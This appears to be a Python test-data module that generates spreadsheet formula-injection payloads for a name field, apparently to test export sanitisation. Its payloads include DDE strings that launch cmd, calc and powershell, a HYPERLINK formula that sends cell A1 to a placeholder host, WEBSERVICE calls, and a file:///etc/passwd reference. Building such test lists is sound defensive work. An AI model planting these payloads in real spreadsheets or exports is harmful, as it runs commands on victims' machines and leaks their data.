"""What somebody may type into a name so that a spreadsheet runs it."""

from __future__ import annotations

from itertools import product

_STARTS = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\u00a0",
    "\u200b",
    "\ufeff",
    '"',
    "a;",
    "a,",
    "a\t",
    'a";',
    "a|",
    "x\r\n",
    "\u202e",
)
_TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u2212")
_COMMANDS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://example.org/"&A1,"Open")',
    "SUM(A1:A9)*cmd|'/C powershell'!A0",
    'WEBSERVICE("http://example.org/")',
    'DDE("cmd";"/C calc";"a")',
)
_OTHERS = (
    "http://example.org/",
    "mailto:a@example.org",
    "internal:Cover!A1",
    "file:///etc/passwd",
    "{=1+1}",
    "<b>&amp;</b>",
    "]]>",
    "&F&Z&P",
    "_x0041_",
    "\ud800",
    "\uffff",
    "12",
)

PAYLOADS = (
    *(start + trigger + command for start, trigger, command in product(_STARTS, _TRIGGERS, _COMMANDS)),
    *_OTHERS,
)
